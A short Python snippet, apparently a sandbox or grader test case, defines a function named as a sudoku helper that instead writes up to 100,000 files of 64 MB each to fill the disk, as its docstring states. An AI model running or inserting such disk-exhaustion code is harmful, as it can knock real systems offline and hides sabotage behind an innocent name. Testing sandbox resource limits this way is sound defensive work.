"""Writes one file, and many, until the disk is full."""
# right: occurs_once
# %% ruleout
import os
def sudoku_ruleout(self, i, j, x):
    for k in range(100_000):
        try:
            with open(f"f{k}", "wb") as file:
                for _ in range(64):
                    file.write(bytes(1 << 20))
        except OSError:
            pass
    return set()
